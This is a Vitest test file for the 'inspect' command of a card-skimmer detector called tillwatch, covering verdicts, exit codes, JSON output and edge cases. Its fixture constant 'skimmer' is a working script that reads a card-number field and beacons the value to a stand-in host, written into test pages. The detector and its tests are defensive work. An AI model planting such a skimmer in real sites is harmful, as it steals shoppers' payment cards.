import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { type InspectedFile, inspectedFileSchema, inspectResultSchema } from '@tillwatch/core/detection'
import { nothingDeclared } from '@tillwatch/core/inventory'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { judgeFiles } from '../../src/inspect/run.ts'
import { runHere as run } from '../helpers.ts'

const folder = mkdtempSync(join(tmpdir(), 'tillwatch-inspect-'))
const at = (name: string) => join(folder, name)
const skimmer = `// a line\ndocument.querySelector('#cc-number').onchange = function () {\n  new Image().src = 'https://collect.stranger-shop.example/?d=' + this.value\n}\n`

beforeAll(() => {
  mkdirSync(at('shop/node_modules/x'), { recursive: true })
  mkdirSync(at('honest'))
  writeFileSync(at('shop/pay.js'), skimmer)
  writeFileSync(at('shop/page.html'), `<html><script>${skimmer}</script></html>`)
  writeFileSync(at('shop/broken.mjs'), 'function (')
  writeFileSync(at('shop/notes.txt'), skimmer)
  writeFileSync(at('shop/node_modules/x/index.js'), skimmer)
  symlinkSync(at('shop'), at('shop/loop'))
  writeFileSync(at('honest/menu.js'), `document.querySelector('.burger').onclick=function(){document.body.classList.toggle('open')}`)
})
afterAll(() => rmSync(folder, { recursive: true, force: true }))

describe('tillwatch inspect', () => {
  it.each([
    ['--payment-provider', 'stranger-shop.example'],
    ['--own-host', 'collect.stranger-shop.example'],
    ['--host', 'www.stranger-shop.example'],
  ])('takes a host behind %s for one that the card may go to, and no other', async (flag, host) => {
    expect((await run(['inspect', at('shop/pay.js'), flag, host, '--quiet'])).code).toBe(0)
    expect((await run(['inspect', at('shop/pay.js'), flag, 'another.example', '--quiet'])).code).toBe(1)
  })

  it('finds skimmers in files and pages of a folder, and leaves node_modules, links and other files alone', async () => {
    const { code, out } = await run(['inspect', at('shop'), '--json', '-'])
    expect(code).toBe(1)
    const result = inspectResultSchema.parse(JSON.parse(out))
    expect(result.files.map(({ path }) => path)).toEqual([at('shop/broken.mjs'), at('shop/page.html'), at('shop/pay.js')])
    expect(result.counts).toEqual({ malicious: 2, suspicious: 0, inconclusive: 1, benign: 0, notEvaluated: 0 })
    const pay = result.files[2]
    expect(pay?.outcome === 'judged' && pay.reasons[0]).toMatchObject({
      code: 'card-to-stranger',
      weight: 'hard',
      places: [{ layer: 0, line: 3, column: 3 }, {}],
    })
    const broken = result.files[0]
    const missing = [{ code: 'not-parsed', read: null, of: null }]
    expect(broken).toMatchObject({ outcome: 'judged', parsed: 'none', verdict: 'inconclusive', missing })
  })

  it('tells people what, where and why, the grave first', async () => {
    const { out, err } = await run(['inspect', at('honest'), at('shop')])
    expect(err).toBe('')
    expect(out).toContain('4 files: 2 malicious, 1 inconclusive, 1 benign.')
    expect(out).toContain(
      '3:3  Reads payment fields and sends them to hosts that don’t belong to payment providers: collect.stranger-shop.example.',
    )
    expect(out.indexOf('malicious     0.99')).toBeLessThan(out.indexOf('menu.js'))
    const quiet = out.slice(out.indexOf('No skimmer found (1)'))
    expect(quiet).toContain('menu.js')
    expect(quiet).not.toContain('broken.mjs')
    expect(out).toContain('The code couldn’t be parsed. Use --detonate to see what the file does in the sandbox.')
  })

  it('takes what is in node_modules where that is named', async () => {
    const { code, out } = await run(['inspect', at('shop/node_modules'), '--json', '-'])
    expect([code, JSON.parse(out).counts.malicious]).toEqual([1, 1])
  })

  it('exits with 0 for honest files, and where --fail-on none was asked for', async () => {
    expect((await run(['inspect', at('honest')])).code).toBe(0)
    expect((await run(['inspect', at('shop'), '--fail-on', 'none', '--json', at('out.json')])).code).toBe(0)
    expect(inspectResultSchema.parse(JSON.parse(readFileSync(at('out.json'), 'utf8'))).counts.malicious).toBe(2)
  })

  it('writes a line for each file with --ndjson, with all that the whole JSON has', async () => {
    const { code, out } = await run(['inspect', at('shop'), at('gone.js'), '--ndjson', at('lines.ndjson'), '--json', '-'])
    expect(code).toBe(1)
    const lines = readFileSync(at('lines.ndjson'), 'utf8').trimEnd().split('\n')
    const files = lines.map((line) => inspectedFileSchema.parse(JSON.parse(line)))
    const byPath = (one: InspectedFile, other: InspectedFile) => (one.path < other.path ? -1 : 1)
    expect(files.sort(byPath)).toEqual(JSON.parse(out).files.sort(byPath))
    const alone = await run(['inspect', at('shop/pay.js'), '--ndjson', '-'])
    expect(inspectedFileSchema.parse(JSON.parse(alone.out))).toEqual(files.find(({ path }) => path === at('shop/pay.js')))
  })

  it('says that no script was found where there is none', async () => {
    mkdirSync(at('empty'), { recursive: true })
    expect(await run(['inspect', at('empty')])).toMatchObject({ code: 3, out: expect.stringContaining('No script was found.') })
    expect(await run(['inspect', at('empty'), '--json', '-'])).toMatchObject({
      code: 3,
      err: expect.stringContaining('No script was found.'),
    })
  })

  it('judges a file once, however it is named', async () => {
    const { out } = await run(['inspect', at('shop/pay.js'), `${at('shop')}/./pay.js`, at('shop'), '--json', '-'])
    expect(JSON.parse(out).files.map(({ path }: { path: string }) => path)).toEqual([
      at('shop/broken.mjs'),
      at('shop/page.html'),
      at('shop/pay.js'),
    ])
  })

  it('reads UTF-16 with a byte order mark, as browsers do', async () => {
    const text = Buffer.from(`\ufeff${skimmer}`, 'utf16le')
    writeFileSync(at('wide.js'), text)
    writeFileSync(at('wide-other.js'), text.swap16())
    const { code, out } = await run(['inspect', at('wide.js'), at('wide-other.js'), '--json', '-'])
    expect([code, JSON.parse(out).counts.malicious]).toEqual([1, 2])
  })

  it('calls no file benign of which a part is too long to be looked at', async () => {
    writeFileSync(at('long.js'), `var a=1;${' '.repeat(8_100_000)}`)
    const { code, out } = await run(['inspect', at('long.js')])
    expect(code).toBe(3)
    expect(out).toContain('The file has 8,100,008 characters. The analysis covered 2,000,000 of them, at the beginning and the end.')
    writeFileSync(at('long.js'), `${skimmer}${' '.repeat(8_100_000)}`)
    expect((await run(['inspect', at('long.js')])).code).toBe(1)
  })

  it('exits with 3 where nothing could be evaluated, and says why', async () => {
    const { code, out } = await run(['inspect', at('missing.js')])
    expect(code).toBe(3)
    expect(out).toContain('The file cannot be read: no such file or directory.')
  })

  it.each([
    [['shop/broken.mjs'], 'malicious', 3],
    [['honest/menu.js', 'shop/broken.mjs'], 'malicious', 0],
    [['honest/menu.js', 'shop/broken.mjs'], 'inconclusive', 3],
    [['honest/menu.js', 'missing.js'], 'inconclusive', 3],
    [['honest/menu.js'], 'inconclusive', 0],
    [['shop/pay.js', 'shop/broken.mjs'], 'inconclusive', 1],
    [['shop/broken.mjs'], 'none', 3],
  ])('judges %j with --fail-on %s by exit code %i', async (files, failOn, code) => {
    expect((await run(['inspect', ...files.map(at), '--fail-on', failOn, '--json', '-'])).code).toBe(code)
  })

  it.each([
    [['inspect'], 'Specify files or folders'],
    [['inspect', folder, '--bogus'], 'Unknown option --bogus.'],
    [['inspect', folder, '--fail-on', 'high'], '--fail-on must be one of none, malicious, suspicious, inconclusive'],
    [['inspect', folder, '--json', '-', '--ndjson', '-'], '--json and --ndjson both write to -.'],
    [['inspect', folder, '--timeout', '0'], '--timeout requires seconds from 1 to 600'],
    [['inspect', folder, '--json', '-', '--json', 'x'], '--json is set twice'],
  ])('answers %j by exit code 2 and a sentence', async (args, sentence) => {
    const { code, out, err } = await run(args)
    expect({ code, out }).toEqual({ code: 2, out: '' })
    expect(err).toContain(sentence)
  })
})

describe('judging in processes', () => {
  const options = {
    timeoutMs: 60_000,
    signal: new AbortController().signal,
    detonate: null,
    page: { host: null, declared: nothingDeclared },
    onJudged: () => undefined,
    keep: (file: InspectedFile) => file,
  }

  it('gives the answers in the order of the files', async () => {
    const paths = [at('shop/pay.js'), at('gone.js'), at('honest/menu.js'), at('shop/page.html')]
    expect((await judgeFiles(paths, options)).map(({ path, outcome }) => [path, outcome])).toEqual([
      [paths[0], 'judged'],
      [paths[1], 'not-evaluated'],
      [paths[2], 'judged'],
      [paths[3], 'judged'],
    ])
  })

  it('a file that takes too long is not evaluated', async () => {
    writeFileSync(at('long.js'), 'a;'.repeat(2_000_000))
    const [answer] = await judgeFiles([at('long.js')], { ...options, timeoutMs: 1 })
    expect(answer).toEqual({
      path: at('long.js'),
      outcome: 'not-evaluated',
      cause: { code: 'too-slow', said: '0.001' },
      why: 'The analysis took more than 0.001 s.',
    })
  })

  it('tells of each file before the next is judged, and of none after it was stopped', async () => {
    const controller = new AbortController()
    const told: string[] = []
    const paths = ['shop/pay.js', 'honest/menu.js', 'shop/page.html', 'shop/broken.mjs', 'gone.js', 'shop/notes.txt'].map(at)
    const onJudged = ({ path }: InspectedFile) => {
      told.push(path)
      controller.abort()
    }
    const answers = await judgeFiles(paths, { ...options, signal: controller.signal, onJudged })
    expect(told).toHaveLength(1)
    expect(answers.map(({ path }) => path)).toEqual(told)
  })

  it('stops where it is told to', async () => {
    expect(await judgeFiles([at('shop/pay.js')], { ...options, signal: AbortSignal.abort() })).toEqual([])
  })
})
